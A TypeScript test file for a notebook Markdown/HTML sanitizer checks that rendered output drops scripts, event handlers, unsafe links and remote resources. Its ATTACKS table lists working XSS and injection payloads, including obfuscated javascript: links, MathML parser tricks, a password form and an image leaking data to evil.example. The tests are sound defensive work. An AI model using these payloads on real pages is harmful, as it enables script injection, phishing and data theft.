import { describe, expect, test } from "vitest";
import { fromHtml, fromMarkdown } from "../src/shared/markdown";

function draw(fragment: DocumentFragment): HTMLElement {
  const box = document.createElement("div");
  box.append(fragment);
  return box;
}

const PNG = "data:image/png;base64,iVBORw0KGgo=";

const ATTACKS: Record<string, string> = {
  "a script": "<script>window.hit = 1</script>",
  "a script in odd case": "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
  "a handler on a broken image": '<img src=x onerror="window.hit = 1">',
  "a handler after a slash": "<svg/onload=window.hit=1>",
  "a javascript link": "[x](javascript:window.hit=1) <a href='javascript:window.hit=1'>y</a>",
  "a javascript link with a tab in it": "<a href='java\tscript:window.hit=1'>x</a>",
  "a javascript link in entities": "<a href='&#106;avascript&colon;window.hit=1'>x</a> [y](&#106;avascript:window.hit=1)",
  "a javascript link behind a control character": "<a href='\u0001javascript:window.hit=1'>x</a>",
  "a javascript link in full-width letters": "<a href='\uff4aavascript:window.hit=1'>x</a> [y](\uff4aavascript:x)",
  "a link to an HTML data address": "[x](data:text/html;base64,PHNjcmlwdD4=) <a href='data:text/html,<script>1</script>'>y</a>",
  "a vbscript or file link": "[x](vbscript:x) [y](file:///etc/passwd) <a href='file:///etc/passwd'>z</a>",
  "a link into the Jupyter server": "[x](/api/kernels) [y](//evil.example) <a href='/api/kernels'>z</a>",
  "an svg with a link and a script": "<svg><a xlink:href='javascript:window.hit=1'><text>x</text></a><script>1</script></svg>",
  "an iframe": "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  "an object and an embed": "<object data='x.swf'></object><embed src='x.swf'>",
  "a style sheet": "<style>@import url(https://evil.example/x.css)</style>",
  "a style attribute that fetches or covers the page": "<div style='position:fixed;inset:0;background:url(https://evil.example/x)'>x</div>",
  "a form that asks for a password": "<form action='https://evil.example'><input type=password name=p><button>go</button></form>",
  "a remote image": "![secret](https://evil.example/?q=secret) <img src='https://evil.example/x.png' srcset='https://evil.example/y.png'>",
  "a remote picture, video or sound": "<picture><source srcset='https://evil.example/x'></picture><video poster='https://evil.example/x'></video><audio src='https://evil.example/x'></audio>",
  "an svg image in a data address": "![x](data:image/svg+xml;base64,PHN2Zz4=) <img src='data:image/svg+xml;base64,PHN2Zz4='>",
  "a base or meta element": "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
  "an id or name that shadows a global": "<a id=jupyterapp name=jupyterapp>x</a><img name=cookie src='" + PNG + "'>",
  "a class of JupyterLab's own": "<div class='jp-Dialog lm-mod-overlay'>x</div>",
  "MathML that changes its parser's mind": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hit=1&gt;'>",
  "a class given to a block of code": "```jp-Dialog lm-mod-overlay\nx\n```",
  "a comment that closes early": "<!--><img src=x onerror=window.hit=1>-->",
  "a handler behind a null byte": "<img\u0000 src=x on\u0000error=window.hit=1>",
  "a custom element or template": "<x-y onclick='window.hit=1'>z</x-y><template><script>1</script></template>",
};

const TAGS = "script, style, iframe, object, embed, svg, math, form, input, button, base, meta, link, picture, source, video, audio, template, x-y";

function expectHarmless(box: HTMLElement): void {
  expect(box.querySelector(TAGS)).toBeNull();
  for (const element of box.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name, `${name} on ${element.outerHTML}`).not.toMatch(/^on|^(id|name|class|style|srcset|xlink:href|action)$/);
      if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/i);
      if (name === "src") expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
    }
  }
}

describe.each(Object.entries(ATTACKS))("%s", (_, attack) => {
  test("does nothing in Markdown", () => expectHarmless(draw(fromMarkdown(attack))));
  test("does nothing in HTML", () => expectHarmless(draw(fromHtml(attack))));
});

describe("Markdown", () => {
  const html = (text: string): string => draw(fromMarkdown(text)).innerHTML.trim();

  test("raw HTML shows as the text that was written", () => {
    expect(draw(fromMarkdown("<b onclick=x>bold</b>")).textContent?.trim()).toBe("<b onclick=x>bold</b>");
  });

  test("HTML in code stays code", () => {
    const box = draw(fromMarkdown("`<img src=x onerror=1>`\n\n```html\n<script>1</script>\n```"));

    expect(box.querySelector("p code")?.textContent).toBe("<img src=x onerror=1>");
    expect(box.querySelector("pre code")?.textContent).toBe("<script>1</script>\n");
  });

  test.each(["{braces} and {{ more }}", "100 %% sure, %s %d", "${x} $& $1"])("%o comes through letter for letter", (text) => {
    expect(draw(fromMarkdown(text)).textContent?.trim()).toBe(text);
  });

  test("an image is its alternative text and nothing else", () => {
    expect(html("see ![a <b>cat</b>](https://evil.example/cat.png) there")).toBe("<p>see a &lt;b&gt;cat&lt;/b&gt; there</p>");
  });

  test("a list that starts at three still does", () => {
    expect(draw(fromMarkdown("3. x")).querySelector("ol")?.getAttribute("start")).toBe("3");
  });

  test("a table is a table", () => {
    expect(draw(fromMarkdown("| a | b |\n|---|---|\n| 1 | 2 |")).querySelectorAll("table td")).toHaveLength(2);
  });

  test("a good link opens elsewhere and does not tell where from", () => {
    const link = draw(fromMarkdown("[x](https://example.org/a?b=c)")).querySelector("a");

    expect(link?.getAttribute("href")).toBe("https://example.org/a?b=c");
    expect(link?.target).toBe("_blank");
    expect(link?.rel).toBe("noopener noreferrer");
  });

  test("a link may not choose its own target", () => {
    expect(draw(fromHtml("<a href='https://example.org' target='_top' rel='opener'>x</a>")).innerHTML).toBe(
      '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
    );
  });

  test("a written-out address is a link, a file name or method is not", () => {
    expect(html("https://example.org")).toContain("<a href=");
    expect(html("model.fit and data.py and a@b.org")).not.toContain("<a");
  });

  test("a single line break is kept, as it was while streaming", () => {
    expect(html("one\ntwo")).toMatch(/one<br>\s*two/);
  });
});

describe("HTML of an output", () => {
  test("a data frame keeps its cells and spans", () => {
    const box = draw(fromHtml('<div><table border="1" class="dataframe"><tr style="text-align: right;"><th colspan="2">x</th></tr><tr><td>1</td></tr></table></div>'));

    expect(box.querySelector("th")?.getAttribute("colspan")).toBe("2");
    expect(box.querySelector("td")?.textContent).toBe("1");
  });

  test("an image that carries its own pixels stays, and another is its alternative text", () => {
    const box = draw(fromHtml(`<img src="${PNG}" alt="plot"><img src="https://evil.example/x.png" alt="<i>gone</i>">`));

    expect(box.querySelectorAll("img")).toHaveLength(1);
    expect(box.textContent).toBe("<i>gone</i>");
  });
});

function formulas(text: string): string[] {
  return [...draw(fromMarkdown(text)).querySelectorAll("var")].map((formula) => formula.textContent ?? "");
}

describe("formulas", () => {
  test.each([
    "$x$",
    String.raw`$\bar{x}_1 = a_1*b*c$`,
    String.raw`\(a^2 + b_1_2\)`,
    String.raw`$$\int_0^\infty e^{-x^2}\,dx$$`,
    "\\[\na\n- b\n= c\\,d\n+ e\n\\]",
  ])("stay as they were written: %s", (formula) => {
    expect(formulas(`So it is:\n${formula}\nis it not?`)).toEqual([formula]);
    expect(formulas(formula)).toEqual([formula]);
  });

  test.each([
    "It costs $5 and then $10.",
    "between $5-$10, or ($5)–($6), or US$4M (not 5$)",
    "$HOME/bin:$PATH and ${x}",
    "`$x$` and `\\(x\\)`",
    "```\n$$\nx\n$$\n```",
    String.raw`\$x\$`,
    "$$\nnever closed",
    "$x\n\ny$",
  ])("are not seen in %s", (text) => {
    expect(formulas(text)).toEqual([]);
  });

  test("are text", () => {
    expect(formulas("$</var><img src=x onerror=1>$")).toEqual(["$</var><img src=x onerror=1>$"]);
  });
});

test("the columns of a table keep their side", () => {
  const cells = draw(fromMarkdown("| a | b | c |\n|---|--:|:-:|\n| 1 | 2 | 3 |")).querySelectorAll("th, td");

  expect([...cells].map((cell) => cell.getAttribute("align"))).toEqual([null, "right", "center", null, "right", "center"]);
});
